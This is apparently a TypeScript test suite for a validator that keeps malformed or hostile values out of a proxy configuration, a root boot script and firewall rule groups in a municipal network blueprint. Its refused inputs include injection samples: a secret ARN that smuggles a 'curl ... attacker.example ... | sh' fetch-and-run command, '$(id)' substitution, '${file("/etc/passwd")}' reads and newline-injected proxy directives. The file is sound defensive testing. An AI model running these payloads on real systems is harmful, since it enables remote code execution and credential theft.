/**
 * The α′ breakout validation (src/model/validate-breakout.ts) is the security boundary in front of squid.conf, the proxy's
 * root boot script and the firewall's rule groups: every value is checked against its grammar, every problem is reported
 * as `[path] what. Fix: how.`, and nothing malformed reaches the planner (which would crash) or the generated files.
 */
import { alphaPrime } from '../../examples/blueprints';
import {
  AlphaPrimeCase, Blueprint, BreakoutServiceProps, CloudServiceCatalogue, CloudServiceCategory, CloudServiceDefinition, EntraTenantRestrictionVersion,
  MunicipalNetworkBlueprintProps, Port, validateBlueprint,
} from '../../src';
import { ipsRuleProblems, secretArnForm } from '../../src/model/validate-breakout';
import { planNetwork } from '../../src/plan';

const M365_TENANT = '00000000-0000-4000-8000-000000000001';
const M365_POLICY = '00000000-0000-4000-8000-0000000000aa';
const base = alphaPrime.breakout!;

/** The α′ example with other services (and breakout options). */
function withServices(services: unknown[], extra: Record<string, unknown> = {}, theCase = alphaPrime.alphaPrimeCase): MunicipalNetworkBlueprintProps {
  return { ...alphaPrime, alphaPrimeCase: theCase, breakout: { ...base, services: services as BreakoutServiceProps[], ...extra } };
}

const errorsOf = (props: MunicipalNetworkBlueprintProps) => validateBlueprint(props);

/** Tenant settings that fit each catalogue scheme. */
function settingsFor(s: CloudServiceDefinition): Partial<BreakoutServiceProps> {
  switch (s.id) {
    case 'microsoft-365': return { tenantIds: [M365_TENANT], policyId: M365_POLICY };
    case 'microsoft-365-trv1': return { tenantIds: [M365_TENANT, 'city.example.lg.jp'] };
    case 'google-workspace':
    case 'webex': return { tenantIds: ['city.example.lg.jp'] };
    case 'slack': return { tenantIds: ['T0123ABCD', 'E0456EFGH'] };
    case 'dropbox': return { tenantIds: ['dbtid:AAB-0123_xyz'] };
    case 'github': return { tenantIds: ['12345'] };
    default: return {};
  }
}

describe('every catalogue entry is validated like user input, and passes', () => {
  test.each(CloudServiceCatalogue.all().map((s) => [s.id, s] as const))('%s', (_, s) => {
    const consumer = s.id.startsWith('microsoft-365') ? [{ service: CloudServiceCatalogue.MICROSOFT_CONSUMER_ACCOUNT_BLOCK }] : [];
    // Non-ISMAP entries without the security-update conditions are refused for ISMAP only (AP-2), by design.
    const confirmed = s.ismapListed || s.securityUpdateConditions ? s : { ...s, ismapListed: true };
    const entry = { service: confirmed, ...settingsFor(s) };
    const theCase = s.category === CloudServiceCategory.COMMUNICATION_TOOL || s.tenantRestriction
      ? AlphaPrimeCase.COMMUNICATION_NO_DOWNLOAD : AlphaPrimeCase.LICENSE_AND_UPDATES;
    const extra = theCase === AlphaPrimeCase.LICENSE_AND_UPDATES ? { tenantProxy: undefined, fileDownloadRestricted: undefined } : {};
    const props = withServices([entry, ...consumer.filter((c) => c.service.id !== s.id)], extra, theCase);
    const errors = errorsOf(props).filter((e) => !(confirmed !== s && /relabels|differ from the domains/.test(e)));
    expect(errors).toEqual([]);
    expect(() => planNetwork(Blueprint.validate(props))).not.toThrow();
  });

  test('every catalogue entry together (Entra v2; v1 separately), in case イ', () => {
    const all = CloudServiceCatalogue.all().filter((s) => s.id !== 'microsoft-365-trv1')
      .map((s) => ({ service: s.ismapListed || s.securityUpdateConditions ? s : { ...s, ismapListed: true }, ...settingsFor(s) }));
    const errors = errorsOf(withServices(all)).filter((e) => !/relabels|differ from the domains/.test(e));
    expect(errors).toEqual([]);
  });
});

describe('free text cannot carry a directive, a line break or a reference', () => {
  const hostile = [
    'Microsoft 365\nhttp_reply_access allow all\n#', 'a\rb', 'tab\there', 'nul\u0000', 'line\u2028separator', 'para\u2029graph',
    'bidi\u202eoverride', '${Token[AWS.AccountId.0]}', '%{if true}x%{endif}', 'x'.repeat(201),
  ];
  test.each(hostile.map((h) => [JSON.stringify(h).slice(0, 40), h]))('service name %s is refused', (_, name) => {
    const errors = errorsOf(withServices([...base.services, { service: { ...CloudServiceCatalogue.ZOOM, id: 'own-tool', name } }]));
    expect(errors).toEqual(expect.arrayContaining([expect.stringMatching(/^\[breakout\.services\[4\]\(own-tool\)\.service\.name\] .*\. Fix: /)]));
    // Messages stay on one line each, whatever the value.
    for (const e of errors) expect(e).not.toMatch(/[\r\n\u2028\u2029\u0000]/);
  });

  test('tenant scheme, documentation URLs, header names and templates, separators are checked against their grammar', () => {
    const tr = CloudServiceCatalogue.SLACK.tenantRestriction!;
    const evil: CloudServiceDefinition = {
      ...CloudServiceCatalogue.SLACK,
      id: 'own-chat',
      domains: ['chat.example.com'],
      documentationUrl: 'https://example.com/a b',
      tenantRestriction: {
        ...tr,
        scheme: 'x\nhttp_access allow all',
        hosts: ['chat.example.com', 'other.example.net'],
        documentationUrl: 'javascript:alert(1)',
        headers: [
          { name: '#X-Comment', valueTemplate: '{tenants}' },
          { name: 'All', valueTemplate: 'x' },
          { name: 'X-Ok', valueTemplate: '"{tenants}" all\nhttp_access allow all' },
          { name: 'X-Macro', valueTemplate: '%{x}' },
          { name: 'X-Other', valueTemplate: '{unknown}' },
          { name: 'X-Sep', valueTemplate: '{tenants}', separator: '\n' },
        ],
      },
    };
    const errors = errorsOf(withServices([...base.services, { service: evil, tenantIds: ['T1'] }]));
    const p = 'breakout\\.services\\[4\\]\\(own-chat\\)\\.service';
    for (const expected of [
      `^\\[${p}\\.documentationUrl\\] .*characters a URL`,
      `^\\[${p}\\.tenantRestriction\\.scheme\\] .*line break`,
      `^\\[${p}\\.tenantRestriction\\.hosts\\[1\\]\\] "other\\.example\\.net" is not covered by the service's domains`,
      `^\\[${p}\\.tenantRestriction\\.documentationUrl\\] .*not an https URL`,
      `^\\[${p}\\.tenantRestriction\\.headers\\[0\\]\\.name\\] .*RFC 9110 token`,
      `^\\[${p}\\.tenantRestriction\\.headers\\[1\\]\\.name\\] "All" means every header`,
      `^\\[${p}\\.tenantRestriction\\.headers\\[2\\]\\.valueTemplate\\] .*may not carry`,
      `^\\[${p}\\.tenantRestriction\\.headers\\[3\\]\\.valueTemplate\\] .*placeholder other than`,
      `^\\[${p}\\.tenantRestriction\\.headers\\[4\\]\\.valueTemplate\\] .*placeholder other than`,
      `^\\[${p}\\.tenantRestriction\\.headers\\[5\\]\\.separator\\] .*is not a separator`,
    ]) {
      expect(errors).toEqual(expect.arrayContaining([expect.stringMatching(new RegExp(expected))]));
    }
  });

  test('tenant IDs, directory IDs and policy IDs in their real formats (Entra: GUIDs)', () => {
    const errors = errorsOf(withServices([
      { service: CloudServiceCatalogue.MICROSOFT_365, tenantIds: ['contoso.example'], policyId: 'policy"; all' },
      base.services[1],
      { service: CloudServiceCatalogue.SLACK, tenantIds: ['workspace-1'] },
      { service: CloudServiceCatalogue.GOOGLE_WORKSPACE, tenantIds: ['*.example.com'] },
      { service: CloudServiceCatalogue.GITHUB, tenantIds: ['ent"erprise'] },
      { service: CloudServiceCatalogue.DROPBOX, tenantIds: ['dbtid:AAC0lz7NQ1Ud_sample-team', 'our-team'] },
    ]));
    for (const expected of [
      /^\[breakout\.services\[0\]\.tenantIds\[0\]\] "contoso\.example" is not a GUID .*sec-Restrict-Tenant-Access-Policy header, AP-3/,
      /^\[breakout\.services\[0\]\.policyId\] .* is not a GUID/,
      /^\[breakout\.services\[2\]\.tenantIds\[0\]\] "workspace-1" is not a Slack workspace ID/,
      /^\[breakout\.services\[3\]\.tenantIds\[0\]\] "\*\.example\.com" is not a domain name/,
      /^\[breakout\.services\[4\]\.tenantIds\[0\]\] .* is not a plain identifier/,
      /^\[breakout\.services\[5\]\.tenantIds\[1\]\] "our-team" is not a Dropbox team ID, dbtid:/,
    ]) {
      expect(errors).toEqual(expect.arrayContaining([expect.stringMatching(expected)]));
    }
    // The well-formed Dropbox team ID is not among them.
    expect(errors.filter((e) => /services\[5\]\.tenantIds\[0\]/.test(e))).toEqual([]);
  });

  test('Entra v1: the directory named by Restrict-Access-Context must be a GUID; domains are fine in the tenant list', () => {
    const v1 = CloudServiceCatalogue.microsoft365(EntraTenantRestrictionVersion.V1);
    const consumer = { service: CloudServiceCatalogue.MICROSOFT_CONSUMER_ACCOUNT_BLOCK };
    expect(errorsOf(withServices([{ service: v1, tenantIds: ['city.example.lg.jp'] }, consumer])))
      .toEqual([expect.stringMatching(/^\[breakout\.services\[0\]\.tenantIds\[0\]\] "city\.example\.lg\.jp" is not a GUID .*Restrict-Access-Context/)]);
    expect(errorsOf(withServices([{ service: v1, tenantIds: ['city.example.lg.jp'], directoryId: M365_TENANT }, consumer]))).toEqual([]);
  });
});

describe('malformed service definitions are reported, never crash the planner', () => {
  const cases: [string, Record<string, unknown>, RegExp][] = [
    ['tenantRestriction.hosts as a string', { tenantRestriction: { ...CloudServiceCatalogue.GOOGLE_WORKSPACE.tenantRestriction!, hosts: 'google.com' } },
      /\.tenantRestriction\.hosts\] "google\.com" is not a non-empty list/],
    ['a header without valueTemplate', { tenantRestriction: { ...CloudServiceCatalogue.GOOGLE_WORKSPACE.tenantRestriction!, headers: [{ name: 'X-GoogApps-Allowed-Domains' }] } },
      /\.tenantRestriction\.headers\[0\]\.valueTemplate\] is missing/],
    ['headers not a list', { tenantRestriction: { ...CloudServiceCatalogue.GOOGLE_WORKSPACE.tenantRestriction!, headers: { name: 'x' } } },
      /\.tenantRestriction\.headers\] must be a list/],
    ['media without ports', { media: { cidrs: ['198.51.100.0/24'], reason: 'UDP media of the meetings', documentationUrl: 'https://example.com/ips' } },
      /\.media\.ports\] must be a non-empty list of ports/],
    // Two halves of the internet, none a /0: the breakout firewall would pass them around the allow-list (AP-1's bound).
    ['media ranges that together hold more than a /8', {
      media: { cidrs: ['0.0.0.0/1', '128.0.0.0/1'], ports: [Port.udpRange(3478, 3481)], reason: 'UDP media of the meetings', documentationUrl: 'https://example.com/ips' },
    }, /^\[breakout\.services\] the media ranges \(media\.cidrs\) together hold 4294967296 addresses, more than a \/8 holds.*\(AP-1\)/],
    // One range of every port is a whole transport past the allow-list (AP-1), whatever the ranges.
    ['media on every UDP port', {
      media: { cidrs: ['198.51.100.0/24'], ports: [Port.udp(3478), Port.udpRange(1, 65535)], reason: 'UDP media of the meetings', documentationUrl: 'https://example.com/ips' },
    }, /\.media\.ports\[1\]\] opens every udp port \(1-65535\), a whole transport past the FQDN allow-list \(AP-1\)\. Fix: list the vendor's published media ports/],
    ['a plain object as a port', { ports: [{ protocol: 'tcp', fromPort: 443, toPort: 443 }, 'x'] }, /\.ports\[1\]\] is not a port/],
    ['an empty port list', { ports: [] }, /\.ports\] must be a non-empty list/],
    ['a category that does not exist', { category: 'SUPER' }, /\.category\] "SUPER" is not a CloudServiceCategory/],
    ['ismapListed as a string', { ismapListed: 'yes' }, /\.ismapListed\] "yes" is not true or false/],
  ];
  test.each(cases)('%s', (_, change, expected) => {
    const service = { ...CloudServiceCatalogue.GOOGLE_WORKSPACE, id: 'own-workspace', domains: ['workspace.example.com', 'google.com'], ...change };
    const props = withServices([...base.services, { service, tenantIds: ['city.example.lg.jp'] }]);
    const errors = errorsOf(props);
    expect(errors).toEqual(expect.arrayContaining([expect.stringMatching(expected)]));
    for (const e of errors) expect(e).toMatch(/^\[\S+\] .+\. Fix: .+/);
    expect(() => Blueprint.validate(props)).toThrow(/Blueprint has \d+ errors?:/);
  });

  test('holes, getters that throw and cyclic values are reported, not thrown', () => {
    const cyclic: any = { id: 'loop' };
    cyclic.self = cyclic;
    const throwing = { get service(): never { throw new Error('boom'); } };
    // eslint-disable-next-line no-sparse-arrays
    const services = [base.services[0], , throwing, { service: { ...cyclic, name: cyclic } }];
    const errors = errorsOf(withServices(services));
    for (const i of [1, 2, 3]) expect(errors.some((e) => e.startsWith(`[breakout.services[${i}]`))).toBe(true);
    for (const e of errors) expect(e).toMatch(/^\[\S+\] [^\n]+\. Fix: [^\n]+$/);
  });
});

describe('no relabelling (case ア is for licences and updates only)', () => {
  test('a catalogue id keeps the catalogue\'s category and domains', () => {
    const relabelled = { ...CloudServiceCatalogue.ZOOM, category: CloudServiceCategory.SECURITY_UPDATE };
    const caseA = { tenantProxy: undefined, fileDownloadRestricted: undefined };
    const errors = errorsOf(withServices([{ service: relabelled }, { service: CloudServiceCatalogue.WINDOWS_UPDATE }], caseA,
      AlphaPrimeCase.LICENSE_AND_UPDATES));
    expect(errors).toEqual(expect.arrayContaining([
      expect.stringMatching(/^\[breakout\.services\[0\]\(zoom\)\.service\.category\] "SECURITY_UPDATE" relabels the catalogue service Zoom Meetings, a COMMUNICATION_TOOL\. Fix: keep/),
    ]));
    const widened = { ...CloudServiceCatalogue.WINDOWS_UPDATE, domains: [...CloudServiceCatalogue.WINDOWS_UPDATE.domains, '*.example.com'] };
    expect(errorsOf(withServices([...base.services.slice(0, 2), { service: widened }])))
      .toEqual([expect.stringMatching(/^\[breakout\.services\[2\]\(windows-update\)\.service\.domains\] differ from the domains of the catalogue service Windows Update/)]);
  });

  test('a catalogue id keeps the catalogue\'s tenant-restriction scheme (AP-3): another header, or one added where there is none, is refused', () => {
    const m365 = CloudServiceCatalogue.MICROSOFT_365;
    const renamed = { ...m365, tenantRestriction: { ...m365.tenantRestriction!, headers: [{ ...m365.tenantRestriction!.headers[0], name: 'x' }] } };
    expect(errorsOf(withServices([{ ...base.services[0], service: renamed }, ...base.services.slice(1)])))
      .toEqual([expect.stringMatching(/^\[breakout\.services\[0\]\(microsoft-365\)\.service\.tenantRestriction\] differs from the tenant-restriction scheme of the catalogue service Microsoft 365.*\(AP-3\)\. Fix: use \{ service: CloudServiceCatalogue\.MICROSOFT_365 \} as it is/)]);
    const zoomWithScheme = { ...CloudServiceCatalogue.ZOOM, tenantRestriction: CloudServiceCatalogue.SLACK.tenantRestriction };
    expect(errorsOf(withServices([...base.services, { service: zoomWithScheme, tenantIds: ['T0001'] }])))
      .toEqual(expect.arrayContaining([expect.stringMatching(/^\[breakout\.services\[\d\]\(zoom\)\.service\.tenantRestriction\] differs from the tenant-restriction scheme of the catalogue service Zoom Meetings of the same id \(none\)/)]));
    // The catalogue entry itself, copied as plain data, is accepted.
    expect(errorsOf(withServices([{ ...base.services[0], service: JSON.parse(JSON.stringify(m365)) }, ...base.services.slice(1)]))).toEqual([]);
  });

  test('a communication tool\'s domains under another id and category are refused', () => {
    const disguised: CloudServiceDefinition = {
      id: 'licence-check',
      name: 'Licence check',
      category: CloudServiceCategory.LICENSE,
      ismapListed: true,
      domains: ['us04web.zoom.us'],
      documentationUrl: 'https://example.com/licence',
    };
    const caseA = { tenantProxy: undefined, fileDownloadRestricted: undefined };
    const errors = errorsOf(withServices([{ service: disguised }], caseA, AlphaPrimeCase.LICENSE_AND_UPDATES));
    expect(errors).toEqual([expect.stringMatching(
      /^\[breakout\.services\[0\]\(licence-check\)\.service\.domains\[0\]\] "us04web\.zoom\.us" is a domain of the communication tool Zoom Meetings, but the service says LICENSE \(no relabelling\)/)]);
  });

  test('a service of one\'s own of the same kind as the catalogue entry it overlaps is fine', () => {
    const updates: CloudServiceDefinition = { ...CloudServiceCatalogue.WINDOWS_UPDATE, id: 'wu-download', domains: ['download.windowsupdate.com'] };
    expect(errorsOf(withServices([...base.services, { service: updates }]))).toEqual([]);
  });
});

describe('tenant restriction per host (AP-3), in validation', () => {
  test('Microsoft 365 without the consumer-account block: login.live.com, with the fix Microsoft documents (v1 and v2)', () => {
    for (const [service, settings] of [
      [CloudServiceCatalogue.microsoft365(EntraTenantRestrictionVersion.V1), { tenantIds: [M365_TENANT] }],
      [CloudServiceCatalogue.MICROSOFT_365, { tenantIds: [M365_TENANT], policyId: M365_POLICY }],
    ] as const) {
      expect(errorsOf(withServices([{ service, ...settings }]))).toEqual([expect.stringMatching(new RegExp(
        `^\\[breakout\\.services\\[0\\]\\(${service.id}\\)\\.service\\.domains\\[\\d+\\]\\] allow-lists login\\.live\\.com, but no service of the list restricts the tenant there `
        + '\\(AP-3, テナントアクセス制御\\)\\. Fix: add \\{ service: CloudServiceCatalogue\\.MICROSOFT_CONSUMER_ACCOUNT_BLOCK \\} .*#blocking-consumer-applications'))]);
      expect(errorsOf(withServices([{ service, ...settings }, { service: CloudServiceCatalogue.MICROSOFT_CONSUMER_ACCOUNT_BLOCK }]))).toEqual([]);
    }
  });

  test('Microsoft 365 defined without its tenant restriction is refused for every sign-in host, naming both Entra versions', () => {
    const bare = { ...CloudServiceCatalogue.MICROSOFT_365, id: 'm365-own', tenantRestriction: undefined };
    const errors = errorsOf(withServices([{ service: bare }, { service: CloudServiceCatalogue.MICROSOFT_CONSUMER_ACCOUNT_BLOCK }]));
    expect(errors.filter((e) => /allow-lists login\.(microsoftonline|microsoft)\.com|allow-lists login\.windows\.net/.test(e))).toHaveLength(3);
    expect(errors.join('\n')).toMatch(/CloudServiceCatalogue\.MICROSOFT_365 \}.* or \{ service: CloudServiceCatalogue\.microsoft365\(EntraTenantRestrictionVersion\.V1\) \}/);
  });

  test('a service of one\'s own restricting the sign-in hosts with headers the vendor does not read is refused; the vendor\'s header names, in any case, are fine', () => {
    // Found by an outside tester: the Microsoft 365 domains under another id, its sign-in hosts restricted by "X-Nothing".
    const own = (name: string) => ({
      ...CloudServiceCatalogue.MICROSOFT_365,
      id: 'office-suite',
      tenantRestriction: { ...CloudServiceCatalogue.MICROSOFT_365.tenantRestriction!, scheme: 'own', headers: [{ name, valueTemplate: '{tenants}' }] },
    });
    const errors = errorsOf(withServices([{ service: own('X-Nothing'), tenantIds: [M365_TENANT] }, ...base.services.slice(1)]));
    expect(errors.filter((e) => /whose tenant restriction sets none of the headers the vendor reads there/.test(e))).toEqual([
      expect.stringMatching(/allow-lists login\.microsoftonline\.com, .*\(sec-restrict-tenant-access-policy or restrict-access-to-tenants \+ restrict-access-context\)/),
      expect.stringMatching(/allow-lists login\.microsoft\.com, /),
      expect.stringMatching(/allow-lists login\.windows\.net, /),
    ]);
    const same = errorsOf(withServices([{ service: own('SEC-RESTRICT-TENANT-ACCESS-POLICY'), tenantIds: [M365_TENANT] }, ...base.services.slice(1)]));
    expect(same.filter((e) => /sets none of the headers/.test(e))).toEqual([]);
  });

  test('two schemes on one sign-in host are refused', () => {
    const errors = errorsOf(withServices([
      ...base.services, { service: CloudServiceCatalogue.microsoft365(EntraTenantRestrictionVersion.V1), tenantIds: [M365_TENANT] },
    ]));
    expect(errors).toEqual(expect.arrayContaining([expect.stringMatching(/tenantRestriction\.hosts\[0\]\] "login\.microsoftonline\.com" is tenant-restricted by microsoft-365 too/)]));
  });
});

describe('the proxy\'s CA secret ARN reaches a root boot script: literal ARN or exactly one engine reference', () => {
  test.each([
    ['arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:jichitai/proxy-ca-AbCdEf', 'literal'],
    ['arn:aws-us-gov:secretsmanager:us-gov-west-1:111122223333:secret:ca+x=y.z@w-AbCdEf', 'literal'],
    ['${Token[TOKEN.123]}', 'cdk-token'],
    ['${TfToken[TOKEN.7]}', 'cdktf-token'],
    ['${aws_secretsmanager_secret.proxy_ca.arn}', 'terraform-reference'],
  ])('%s is a %s', (arn, form) => {
    expect(secretArnForm(arn)).toBe(form);
    expect(errorsOf(withServices(base.services, { tenantProxy: { caSecretArn: arn } }))).toEqual([]);
  });

  test.each([
    "${x}'; curl -s http://attacker.example/p | sh; echo '",
    '${Token[TOKEN.1]}x',
    'prefix-${Token[TOKEN.1]}',
    '${var.ca}',
    '${file("/etc/passwd")}',
    '${aws_secretsmanager_secret.ca.arn}${aws_secretsmanager_secret.ca.arn}',
    "arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:ca'$(id)",
    'arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:ca\nreboot',
    'arn:aws:secretsmanager:ap-northeast-1:111122223333:secret:',
    'arn:aws:s3:::bucket',
  ])('%j is refused', (arn) => {
    expect(secretArnForm(arn)).toBeUndefined();
    expect(errorsOf(withServices(base.services, { tenantProxy: { caSecretArn: arn } })))
      .toEqual([expect.stringMatching(/^\[breakout\.tenantProxy\.caSecretArn\] .* is not a Secrets Manager secret ARN or a reference to one \(AP-3\)\. Fix: /)]);
  });

  test('the KMS key ARN follows the same rule', () => {
    expect(errorsOf(withServices(base.services, { tenantProxy: { caSecretArn: base.tenantProxy!.caSecretArn, caSecretKmsKeyArn: '${var.key}' } })))
      .toEqual([expect.stringMatching(/^\[breakout\.tenantProxy\.caSecretKmsKeyArn\] "\$\{var\.key\}" is not a KMS key ARN/)]);
  });
});

describe('user IPS rules: drop, alert or reject only, one rule each, in a restricted Suricata grammar (AP-1, AP-4)', () => {
  const good = [
    'drop tls $HOME_NET any -> $EXTERNAL_NET any (msg:"bad SNI"; tls.sni; content:"bad.example"; nocase; sid:1000001; rev:1;)',
    'alert http $HOME_NET any -> $EXTERNAL_NET [80,8080] (msg:"a \\"quoted\\" \\; word"; http.host; content:"x"; sid:1000002; rev:2;)',
    'rejectsrc tcp !$HOME_NET any -> [192.0.2.0/24,198.51.100.7] !1:1024 (msg:"x"; flow:to_server,established; sid:1000003; rev:1;)',
  ];
  test.each(good)('accepted: %s', (rule) => {
    expect(ipsRuleProblems(rule)).toEqual([]);
  });

  test.each([
    ['pass ip $HOME_NET any -> $EXTERNAL_NET any (msg:"all"; sid:1; rev:1;)', /pass rule: it would let traffic through ahead of the FQDN allow-list \(AP-1\)/],
    ['drop tcp any any -> any any (msg:"a"; sid:1; rev:1;)\npass ip any any -> any any (sid:2; rev:1;)', /line break/],
    ['drop tcp any any -> any any (msg:"a"; sid:1;)', /exactly one rev/],
    ['drop tcp any any -> any any (msg:"a"; rev:1;)', /exactly one sid/],
    ['drop tcp any any -> any any (msg:"a"; bypass; sid:1; rev:1;)', /"bypass"/],
    ['drop tcp $HOME_NET any -> $OTHER any (sid:1; rev:1;)', /is not "action proto src sport -> dst dport/],
    ['drop tcp any any -> any any (msg:"${var.x}"; sid:1; rev:1;)', /Terraform reads as an interpolation/],
    ['drop tcp any any -> any any (msg:"unterminated; sid:1; rev:1;)', /do not parse/],
    ['sdrop tcp any any -> any any (sid:1; rev:1;)', /action "sdrop"/],
    // Suricata's loader skips an indented line: the IPS rule would never run.
    [' drop tls $HOME_NET any -> $EXTERNAL_NET any (msg:"x"; tls.sni; content:"bad.example"; sid:1; rev:1;)', /starts with whitespace, and Suricata skips a rule line that does/],
  ])('refused: %j', (rule, expected) => {
    expect(ipsRuleProblems(rule).join('\n')).toMatch(expected);
  });

  test('in the blueprint: each problem with its index, and repeated sids', () => {
    const errors = errorsOf(withServices(base.services, { ipsRules: [good[0], 'pass ip $HOME_NET any -> $EXTERNAL_NET any (msg:"x"; sid:9; rev:1;)', good[0]] }));
    expect(errors).toEqual([
      expect.stringMatching(/^\[breakout\.ipsRules\[1\]\] is a pass rule: .*\(AP-4, IDS\/IPS\)\. Fix: give rules like/),
      expect.stringMatching(/^\[breakout\.ipsRules\[2\]\] repeats sid 1000001 of ipsRules\[0\] \(AP-4\)/),
    ]);
  });

  test('managed threat signatures: documented StrictOrder names only, each once (AP-4)', () => {
    expect(errorsOf(withServices(base.services, { managedThreatSignatures: ['ThreatSignaturesExploitsStrictOrder', 'ThreatSignaturesBotnetStrictOrder'] }))).toEqual([]);
    expect(errorsOf(withServices(base.services, { managedThreatSignatures: [] }))).toEqual([]);
    expect(errorsOf(withServices(base.services, {
      managedThreatSignatures: ['ThreatSignaturesMalwareStrictOrder', 'ThreatSignaturesMalwareActionOrder', 'ThreatSignaturesNopeStrictOrder', 'ThreatSignaturesMalwareStrictOrder', 7],
    }))).toEqual([
      expect.stringMatching(/^\[breakout\.managedThreatSignatures\[1\]\] "ThreatSignaturesMalwareActionOrder" is an ActionOrder group, which a strict-order firewall policy cannot reference \(AP-4\)\. Fix: give ThreatSignaturesMalwareStrictOrder instead/),
      expect.stringMatching(/^\[breakout\.managedThreatSignatures\[2\]\] "ThreatSignaturesNopeStrictOrder" is not a documented AWS managed threat-signature rule group \(AP-4\)\. Fix: give names of ThreatSignaturesBotnetStrictOrder, /),
      expect.stringMatching(/^\[breakout\.managedThreatSignatures\[3\]\] repeats ThreatSignaturesMalwareStrictOrder of managedThreatSignatures\[0\] \(AP-4\)\. Fix: name each group once/),
      expect.stringMatching(/^\[breakout\.managedThreatSignatures\[4\]\] 7 is not a documented AWS managed threat-signature rule group/),
    ]);
    expect(errorsOf(withServices(base.services, { managedThreatSignatures: 'ThreatSignaturesMalwareStrictOrder' })))
      .toEqual([expect.stringMatching(/^\[breakout\.managedThreatSignatures\] must be a list of at most 16 AWS managed threat-signature rule group names \(AP-4\)/)]);
  });

  test('extra rule groups: ARNs of stateful groups only, AWS managed ones included', () => {
    const managed = 'arn:aws:network-firewall:ap-northeast-1:aws-managed:stateful-rulegroup/ThreatSignaturesMalwareWebStrictOrder';
    expect(errorsOf(withServices(base.services, { extraStatefulRuleGroupArns: [managed] }))).toEqual([]);
    expect(errorsOf(withServices(base.services, {
      extraStatefulRuleGroupArns: ['arn:aws:network-firewall:ap-northeast-1:111122223333:stateful-rulegroup/x\n${file("/etc/passwd")}'],
    }))).toEqual([expect.stringMatching(/^\[breakout\.extraStatefulRuleGroupArns\[0\]\] .*is not a Network Firewall stateful rule group ARN/)]);
  });
});

test('ports and reasons: TCP ranges cannot pass the proxy; reasons are plain text', () => {
  const ranged = { ...CloudServiceCatalogue.WINDOWS_UPDATE, id: 'ranged', domains: ['dl.example.com'], ports: [Port.tcpRange(8000, 8010)], portsReason: 'a\nb' };
  const errors = errorsOf(withServices([...base.services, { service: ranged }]));
  expect(errors).toEqual(expect.arrayContaining([
    expect.stringMatching(/^\[breakout\.services\[4\]\(ranged\)\.service\.ports\[0\]\] tcp\/8000-8010 is a range/),
    expect.stringMatching(/^\[breakout\.services\[4\]\(ranged\)\.service\.portsReason\] .*line break/),
  ]));
});
